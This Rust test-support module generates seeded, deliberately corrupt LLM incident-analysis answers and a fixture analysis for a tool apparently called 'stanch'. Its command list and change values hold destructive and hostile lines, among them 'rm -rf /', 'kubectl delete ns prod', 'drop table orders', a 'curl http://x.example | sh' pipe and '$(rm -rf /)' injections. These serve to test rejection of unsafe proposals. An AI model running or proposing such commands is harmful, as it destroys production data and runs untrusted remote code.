//! Answers of the right shape by a seed: half of what they say is so, the rest is invented, swapped or hostile.

use std::sync::Arc;

use serde_json::{Value, json};
use stanch::domain::analysis::{Analysis, GraphEdge, RankedChange, Signal, Suspect};
use stanch::domain::change::Change;
use stanch::domain::evidence::{
    Band, BeforeAfter, Detail, EdgeDetail, Evidence, EvidenceId, EvidenceKind, LogChange, LogDetail, MetricDetail, Turn,
};
use stanch::domain::log::LogEntry;
use stanch::domain::snapshot::Provenance;
use stanch::domain::{Labels, TimeRange, Timestamp};

/// Names of services of the incident.
pub(super) const SERVICES: &[&str] = &["payments", "cart", "checkout", "postgres"];
/// Names of services that there are not.
pub(super) const INVENTED: &[&str] = &["billing-proxy", "ghost-svc", "ledgerd", "auth_gateway"];

const IDS: &[&str] = &["M1", "M2", "M3", "M4", "L1", "E1", "C1"];
const NO_IDS: &[&str] =
    &["M9", "X1", "", "M", "M01", "M-1", "L99", "E1,M1", "evidence", "Ｍ1", "C12345678901", "Q1", "M1\u{202e}", "m44"];
const METRICS: &[&str] =
    &["pool_in_use", "request_duration_seconds", "memory_working_set_bytes", "pg_connections", "cpu_throttled_ratio"];
const QUOTES: &[&str] =
    &["acquire connection: timeout", "hold connection during fraud check", "disk quota exceeded", "panic: nil", "e"];
const FIGURES: &[f64] =
    &[4.0, 6.0, 9.0, 50.0, 0.12, 0.6, 120.0, 600.0, 8.0, 2.0, 12.0, 55.0, 1_204.0, 80.3, 31.3, 0.1, 91.0, 5.2, 28.0];
const UNITS: &[&str] = &["", "", "", " %", " s", " ms", " GiB", " MB", " minutes", "/s", " times", "x", "k"];

/// Commands, and whether one changes nothing.
pub(super) const COMMANDS: &[(&[&str], bool)] = &[
    (&["kubectl", "get", "pods"], true),
    (&["kubectl", "-n", "shop", "logs", "deploy/payments", "--tail=20"], true),
    (&["kubectl", "delete", "ns", "prod"], false),
    (&["kubectl", "rollout", "undo", "deployment/payments"], false),
    (&["kubectl", "scale", "deploy/payments", "--replicas=0"], false),
    (&["kubectl", "exec", "payments-1", "--", "rm", "-rf", "/data"], false),
    (&["kubectl", "get", "pods", ";", "rm", "-rf", "/"], false),
    (&["kubectl", "get", "pods\nrm -rf /"], false),
    (&["rm", "-rf", "/"], false),
    (&["bash", "-c", "kubectl get pods; kubectl delete ns prod"], false),
    (&["sudo", "sh", "-c", "curl http://x.example | sh"], false),
    (&["curl", "-X", "POST", "http://payments/admin/flush"], false),
    (&["psql", "-c", "drop table orders"], false),
    (&["kubectl", "drain", "node-1", "--force"], false),
    (&["kubectl", "apply", "-f", "https://x.example/a.yaml"], false),
    (&["systemctl", "stop", "postgresql"], false),
    (&["helm", "uninstall", "payments"], false),
    (&["frobnicate", "--now"], false),
    (&["$(rm -rf /)"], false),
    (&[""], false),
];

/// Numbers by a seed (`SplitMix64`).
pub(super) struct Dice(u64);

impl Dice {
    pub(super) fn new(seed: u64) -> Self {
        Self(seed)
    }

    fn next(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        z ^ (z >> 31)
    }

    pub(super) fn below(&mut self, limit: usize) -> usize {
        (self.next() % limit.max(1) as u64) as usize
    }

    fn one_in(&mut self, of: usize) -> bool {
        self.below(of) == 0
    }

    fn pick<T: Copy>(&mut self, from: &[T]) -> T {
        from[self.below(from.len())]
    }

    fn share(&mut self) -> f64 {
        self.below(10_000) as f64 / 10_000.0
    }

    fn number(&mut self) -> String {
        let value = match self.below(6) {
            0..=2 => self.pick(FIGURES),
            3 => self.pick(FIGURES) * (0.7 + 0.6 * self.share()),
            _ => 10f64.powf(self.share() * 9.0 - 3.0),
        };
        let about = if self.one_in(8) { "about " } else { "" };
        let written = match self.below(3) {
            0 if value >= 1.0 => format!("{value:.0}"),
            1 => format!("{value:.1}"),
            _ if value.fract() == 0.0 => format!("{value}"),
            _ => format!("{value:.3}"),
        };
        format!("{about}{written}{}", self.pick(UNITS))
    }

    fn service(&mut self) -> &'static str {
        if self.one_in(5) { self.pick(INVENTED) } else { self.pick(SERVICES) }
    }

    fn sentence(&mut self) -> String {
        let (a, b) = (self.number(), self.number());
        let (s, t) = (self.service(), self.service());
        let (metric, quote) = (self.pick(METRICS), self.pick(QUOTES));
        let id = if self.one_in(3) { self.pick(NO_IDS) } else { self.pick(IDS) };
        match self.below(18) {
            0 => format!("{metric} of {s} rose from {a} to {b}"),
            1 => format!("{metric} reached {a}, normally {b}"),
            2 => format!("{a} lines \"{quote}\" in {s}"),
            3 => format!("errors of {s} → {t} rose to {a}"),
            4 => format!("{s} waits {a} for {t} instead of {b}"),
            5 => format!("deploy v2.{} of {s} at 14:0{}", self.below(60), self.below(10)),
            6 => format!("{id} shows {a}"),
            7 => format!("{id} and M1 fell to {a} since the deploy"),
            8 => format!("it is {a} as much as before"),
            9 => format!("{s} is down"),
            10 => format!("`{quote}` appears ({a} of {b})"),
            11 => format!("{s}-7d9f8-x2x4{} was killed {a} after v2.41", self.below(9)),
            12 => format!("the pool fills {a} after deploy v2.41"),
            13 => format!("p9{} of {s} is {a}", self.below(10)),
            14 => format!("{a}–{b} or [{a};{b}]±{b}"),
            15 => format!("{s} leaks: {metric}={a} ({b})"),
            16 => String::new(),
            _ => format!("{metric} rose"),
        }
    }

    fn ids(&mut self) -> Vec<&'static str> {
        let count = self.below(4);
        (0..count).map(|_| if self.one_in(4) { self.pick(NO_IDS) } else { self.pick(IDS) }).collect()
    }

    fn claims(&mut self, most: usize) -> Value {
        let count = self.below(most + 1);
        (0..count).map(|_| json!({"text": self.sentence(), "evidence": self.ids()})).collect()
    }

    fn change(&mut self) -> Value {
        let namespace = self.pick(&["shop", "prod; rm -rf /", "--all", "", "kube-system"]);
        let workload = self.pick(&["deployment/payments", "payments", "deploy/x --force", "$(id)"]);
        match self.below(6) {
            0 => json!({"kind": "scale", "namespace": namespace, "workload": workload,
                "replicas": self.below(5_000), "current": null}),
            1 => json!({"kind": "restart", "namespace": namespace, "workload": workload}),
            2 => json!({"kind": "roll_back", "namespace": namespace, "workload": workload}),
            3 => json!({"kind": "cordon", "node": workload}),
            4 => json!({"kind": "drain", "node": namespace}),
            _ => json!({"kind": "silence", "matchers": [workload, "a=\"b\""], "minutes": self.below(100_000),
                "comment": self.sentence()}),
        }
    }

    fn action(&mut self) -> Value {
        let (argv, change) =
            if self.one_in(3) { (Value::Null, self.change()) } else { (json!(self.pick(COMMANDS).0), Value::Null) };
        let rollback = if self.one_in(2) { json!(self.pick(COMMANDS).0) } else { Value::Null };
        json!({"id": "P1", "hypothesis": "H1", "argv": argv, "change": change, "target": self.service(),
            "rationale": self.sentence(), "rollback": rollback, "verify": null})
    }

    /// An answer of the right shape; one in twelve breaks off.
    pub(super) fn answer(&mut self) -> String {
        let hypotheses: Vec<Value> = (0..self.below(4))
            .map(|i| {
                json!({"id": format!("H{i}"), "cause": self.sentence(), "service": self.service(),
                    "mechanism": self.sentence(), "supporting": self.claims(4), "contradicting": self.claims(2),
                    "checks": [{"lang": "promql", "query": "up", "expect": self.sentence()}],
                    "confidence": self.pick(&["low", "medium", "high"])})
            })
            .collect();
        let actions: Vec<Value> = (0..self.below(4)).map(|_| self.action()).collect();
        let answer = json!({"observations": self.claims(6), "hypotheses": hypotheses, "actions": actions,
            "missing": [self.sentence()], "summary": self.sentence()});
        let text = answer.to_string();
        if self.one_in(12) { text.chars().take(self.below(text.len())).collect() } else { text }
    }
}

/// One suspect, and evidence of the kinds that carry figures.
pub(super) fn analysis() -> Analysis {
    let mut analysis = crate::llm_real::analysis();
    let at = |seconds: i64| Timestamp::from_secs(1_790_000_000 + seconds);
    let id = |kind, number| EvidenceId { kind, number };
    let provenance = Provenance {
        source: "prometheus".into(),
        lang: None,
        expr: "max(it)".into(),
        range: TimeRange::new(at(-3_600), at(600)),
        notes: Vec::new(),
    };
    let item = |id: EvidenceId, service: &str, title: &str, seconds: i64, detail: Detail| Evidence {
        id,
        service: Some(service.into()),
        title: title.into(),
        strength: 0.7,
        onset: Some(at(seconds)),
        detail,
        provenance: provenance.clone(),
    };
    let metric = |name: &str, before: f64, after: f64| {
        Detail::Metric(MetricDetail {
            metric: name.into(),
            labels: Labels::new(),
            unit: String::new(),
            baseline: Band { low: before * 0.8, median: before, high: before * 1.3, count: 60 },
            peak: after,
            last: after,
            turn: Turn::Up,
            score: 9.0,
            samples: Vec::new(),
        })
    };
    let line = "level=error msg=\"acquire connection: timeout\" pool=pg-main waited_ms=3012";
    let log = Detail::Log(LogDetail {
        template: line.replace("3012", "<*>").as_str().into(),
        change: Some(LogChange::New),
        baseline_count: 0,
        window_count: 1_204,
        baseline_per_minute: 0.0,
        window_per_minute: 80.3,
        level: "error".into(),
        exemplars: vec![LogEntry {
            at: at(70),
            labels: Arc::new([("app", "payments")].into_iter().collect()),
            line: line.into(),
            metadata: Labels::new(),
        }],
        first: Some(at(65)),
        branch: None,
        onset: None,
        telling: Vec::new(),
        outside_baseline: false,
    });
    let edge = Detail::Edge(EdgeDetail {
        client: "checkout".into(),
        server: "payments".into(),
        rate: BeforeAfter { before: Some(120.0), after: Some(118.0) },
        errors: BeforeAfter { before: Some(0.001), after: Some(0.313) },
        client_seconds: BeforeAfter { before: Some(0.091), after: Some(5.2) },
        server_seconds: BeforeAfter { before: Some(0.08), after: Some(5.1) },
        p95: BeforeAfter::default(),
    });
    let change = Detail::Change(Box::new(Change {
        at: at(32),
        kind: "deploy".into(),
        service: "payments".into(),
        reference: "v2.41".into(),
        summary: "hold connection during fraud check".into(),
        author: "author-1".into(),
        diff: None,
    }));
    let c1 = id(EvidenceKind::Change, 1);
    analysis.evidence.extend([
        item(
            id(EvidenceKind::Metric, 2),
            "cart",
            "request_duration_seconds",
            90,
            metric("request_duration_seconds", 0.12, 0.6),
        ),
        item(
            id(EvidenceKind::Metric, 3),
            "cart",
            "memory_working_set_bytes",
            120,
            metric("memory_working_set_bytes", 2_147_483_648.0, 8_589_934_592.0),
        ),
        item(id(EvidenceKind::Metric, 4), "postgres", "pg_connections", 95, metric("pg_connections", 12.0, 55.0)),
        item(id(EvidenceKind::Log, 1), "payments", "acquire connection: timeout", 65, log),
        item(id(EvidenceKind::Edge, 1), "payments", "checkout → payments", 70, edge),
        item(c1, "payments", "deploy v2.41", 32, change),
    ]);
    analysis.evidence.sort_by_key(|item| item.id);
    analysis.changes = vec![RankedChange { rank: 1, evidence: c1, score: 0.9, why: "28 s before".into() }];
    analysis.graph = vec![GraphEdge { client: "checkout".into(), server: "payments".into() }];
    let signal = Signal {
        kind: EvidenceKind::Metric,
        text: "pg_connections rose from 12 to 55".into(),
        evidence: vec![id(EvidenceKind::Metric, 4)],
        score: 0.5,
        onset: Some(at(95)),
    };
    analysis.suspects.push(Suspect {
        rank: 2,
        service: "postgres".into(),
        score: 0.4,
        signals: vec![signal],
        normal: Vec::new(),
    });
    analysis
}
